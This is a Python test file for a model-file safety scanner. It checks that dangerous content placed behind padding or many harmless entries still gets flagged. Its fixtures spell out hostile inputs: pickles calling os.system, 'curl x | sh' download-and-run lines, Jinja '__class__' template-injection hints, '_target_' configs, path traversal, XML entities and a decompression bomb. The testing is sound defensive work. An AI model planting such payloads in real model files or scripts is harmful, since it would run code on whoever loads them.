"""Limits are not hiding places: whatever is piled up before a danger, the danger is told or the file is not clean."""

from __future__ import annotations

import gzip

import pytest

from ajar.blobs import BytesBlob
from ajar.config import Limits
from ajar.model.evidence import GapReason
from ajar.safety import engine, scan, unpickling
from tests.build import pickles as made
from tests.build.zips import zipped
from tests.property.safety_behaviour import WatchingBlob, scan_behaves

EVIL = made.call(made.name("os", "system"), made.text("echo canary"))
HARMLESS = made.call(made.name("collections", "defaultdict"), made.name("builtins", "list")) + made.POP
MANY = unpickling.EVENTS + 50


def level(data: bytes, path: str = "m.pkl") -> str:
    return scan(path, BytesBlob(data), Limits()).level


PILES = {
    "harmless calls": HARMLESS * MANY,
    "unreviewed imports": b"".join(made.name("a.b", f"C{n}") + made.POP for n in range(MANY)),
    "unreviewed calls": b"".join(made.call(made.name("a.b", f"C{n}")) + made.POP for n in range(MANY)),
    "persistent ids": b"".join(made.text(f"x{n}") + b"Q" + made.POP for n in range(MANY)),
}


@pytest.mark.attack("scanner-limits")
@pytest.mark.parametrize("pile", PILES)
def test_a_call_behind_many_others(pile: str) -> None:
    assert level(made.stream(PILES[pile] + EVIL)) == "dangerous"
    assert level(made.stream(PILES[pile] + made.name("os", "system"))) == "dangerous"


@pytest.mark.attack("scanner-limits")
def test_bytes_for_a_loader_behind_many_calls() -> None:
    load = made.call(made.name("torch.storage", "_load_from_bytes"), made.literal(made.command()))
    assert level(made.stream(HARMLESS * MANY + load)) == "dangerous"


@pytest.mark.attack("scanner-limits")
def test_a_member_behind_many_that_want_a_look() -> None:
    small = {f"{n}.pkl": made.stream(made.name("a.b", "C")) for n in range(engine.FINDINGS + 20)}
    found = scan("m.zip", BytesBlob(zipped({**small, "z.pkl": made.command()})), Limits())
    assert found.level == "dangerous"
    assert found.findings[0].severity == "critical"
    assert len(found.findings) <= engine.FINDINGS + 4


@pytest.mark.attack("scanner-limits")
@pytest.mark.parametrize("front", [b"\x80\x04", b"\x80\x04]"])
def test_a_stream_behind_many_false_starts(front: bytes) -> None:
    junk = made.stream(b"N") + b"junk" + (front + b"ca\nb\n") * 5000
    assert level(junk + made.command()) != "clean"


@pytest.mark.attack("compressed-containers")
def test_a_stream_behind_many_gzip_members() -> None:
    body = made.stream(HARMLESS * 100 + EVIL)
    packed = b"".join(gzip.compress(body[at : at + 40]) for at in range(0, len(body), 40))
    assert level(packed, "m.gz") != "clean"


@pytest.mark.attack("scanner-exhaustion")
def test_an_argument_that_holds_itself_many_times_over() -> None:
    """64 tuples of 64 tuples, four deep: 350 bytes that stand for sixteen million texts."""
    body = made.name("a.b", "f", old=True) + made.text("abc") + b"q\x00"
    for depth in range(4):
        body += b"(" + (b"h" + bytes([depth])) * 64 + b"tq" + bytes([depth + 1])
    body += b"0" * 4 + b"h\x04\x85R."
    blob = WatchingBlob(b"\x80\x02" + body, len(body) + 2)
    assert scan("m.pkl", blob, Limits(file_seconds=5)).level in {"caution", "dangerous"}


FAULTS = {
    "an LZ4 frame of its magic alone": ("m.lz4", b"\x04\x22\x4d\x18", -1),
    "a call on a call, a thousand times": ("modeling_x.py", b"x = a" + b".b()" * 1200, -1),
    "signs before a number": ("chat_template.jinja", b"{{ " + b"-" * 5000 + b"1 }}", -1),
    "calls in calls": ("chat_template.jinja", b"{{ " + b"f(" * 150 + b")" * 150 + b" }}", -1),
    "a pax length of 5000 digits": ("m.tar", b"", -1),
    "a pickle that shrinks": ("m.pkl", made.stream(b"(" + made.text("x" * 200) * 400 + b"l"), 2),
    "a zip that shrinks": ("m.zip", zipped({f"{n}": b"x" * 500 for n in range(200)}), 3),
}  # fmt: skip


@pytest.mark.parametrize("which", FAULTS)
def test_what_once_was_a_fault_of_ajar_s_own(which: str) -> None:
    path, data, shrinks = FAULTS[which]
    if not data:
        data = pax(b"00000001" + b"1" * 5000 + b" path=x\n") + pax(b"5020 size=" + b"1" * 5009 + b"\n")
    assert scan_behaves(path, data, shrinks_after=shrinks) != "dangerous"


def pax(body: bytes) -> bytes:
    import io
    import tarfile

    info = tarfile.TarInfo("header")
    info.type, info.size = tarfile.XHDTYPE, len(body)
    block = info.tobuf(tarfile.USTAR_FORMAT)
    return io.BytesIO(block + body + bytes(-len(body) % 512)).getvalue()


def test_a_name_of_sixty_thousand_characters_stays_short_in_words() -> None:
    found = scan("m.zip", BytesBlob(zipped({"../" + "x" * 60_000: b"N."})), Limits())
    assert found.level == "dangerous"
    assert max(len(item.message) for item in found.findings) <= 1000


def test_settings_deeper_than_a_pointer_goes() -> None:
    deep = '{"k":' * 500 + '{"_target_":"os.system"}' + "}" * 500
    found = scan("config.json", BytesBlob(deep.encode()), Limits())
    assert found.level == "dangerous"
    pointer = found.findings[0].because[0].location.pointer
    assert pointer is not None
    assert len(pointer) < 1000


@pytest.mark.parametrize("before", ["", "x\n" * 9, "{{ a }}" * 3])
def test_hints_of_a_template_are_seen_in_any_text(before: str) -> None:
    text = f'{{"a": {before + "{{ x.__class__ }}"!r}}}'.replace("'", '"').replace("\\n", " ")
    assert scan("config.json", BytesBlob(text.encode()), Limits()).level == "dangerous"


def test_no_gap_of_a_file_says_that_ajar_failed() -> None:
    found = scan("m.lz4", BytesBlob(b"\x04\x22\x4d\x18"), Limits())
    assert [gap.reason for gap in found.gaps] == [GapReason.MALFORMED]


MIB = 1 << 20
PADDED = {
    "source": ("modeling_x.py", lambda: "# x\n" * (2 * MIB + 9) + "import os\nos.system('curl x | sh')\n"),
    "a template": ("chat_template.jinja", lambda: "{# " + "x" * 5 * MIB + " #}{{ x.__class__ }}"),
    "settings": ("config.json", lambda: '{"a":"' + "x" * 65 * MIB + '","_target_":"os.system"}'),
    "targets in YAML": ("a.yaml", lambda: "_target_: torch.nn.Linear\n" * 100_002 + "_target_: os.system\n"),
    "a script": ("a.sh", lambda: "#!/bin/sh\n" + "# xx\n" * (8 * MIB) + "curl x | sh\n"),
    "markup": ("a.xml", lambda: "<a>" + "x" * 33 * MIB + '<!ENTITY x SYSTEM "y">'),
    "requirements": ("requirements.txt", lambda: "# x\n" * (5 * MIB) + "-i http://192.0.2.1/\n"),
    "cells": ("x.ipynb", lambda: '{"cells":[' + '{"cell_type":"code","source":""},' * 20_001 + '{"cell_type":"code","source":"!curl x | sh"}]}'),
    "a stream": ("m.pkl", lambda: made.stream(b"N") + b"junk" + bytes(65 * MIB) + made.command()),
}  # fmt: skip


@pytest.mark.attack("scanner-limits")
@pytest.mark.parametrize("which", PADDED)
def test_what_stands_behind_more_than_is_read_is_never_passed(which: str) -> None:
    path, build = PADDED[which]
    data = build()
    assert level(data.encode() if isinstance(data, str) else data, path) != "clean"


def test_long_settings_that_name_nothing_to_build_are_clean() -> None:
    assert level(b'{"vocabulary":"' + b"x" * 65 * MIB + b'"}', "tokenizer.json") == "clean"


def test_a_text_that_begins_like_a_compressed_one_is_a_text() -> None:
    assert level(b"x = a text that begins with 0x7820, as a zlib stream may\n" * 9, "notes.txt") == "clean"
